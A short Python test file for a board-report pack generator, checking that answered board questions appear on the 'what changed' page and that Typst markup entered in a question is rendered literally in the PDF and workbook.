def test_questions_answered_show_on_the_what_changed_page(cycle_db, monkeypatch):
    _data, text, _workbook = cycle_pack(cycle_db, monkeypatch, signoff=True)
    first = text[: text.index("Contents")]
    assert "1 board question answered" in first
    assert "19-FB-1.2 2022-23 Q3 by system When does the waiting list come down? It came down in March." in first


def test_typst_markup_in_a_question_comes_out_literally(cycle_db, monkeypatch):
    _data, content, workbook = cycle_pack(cycle_db, monkeypatch, signoff=False, raw=True)
    text = pdf_text(content)
    # Never read as markup: every page stays A4 (595 x 842 pt), the stars, brackets and slashes stay as typed.
    assert {tuple(round(float(v)) for v in page.mediabox[2:]) for page in PdfReader(io.BytesIO(content)).pages} == {
        (595, 842)
    }
    assert f"Question: {TYPST_MARKUP}" in text
    assert text.count(TYPST_MARKUP) == 2  # under its outcome and among the overdue questions
    sheet = list(workbook["Board questions"].iter_rows(min_row=2, values_only=True))
    assert sheet[0][5] == TYPST_MARKUP
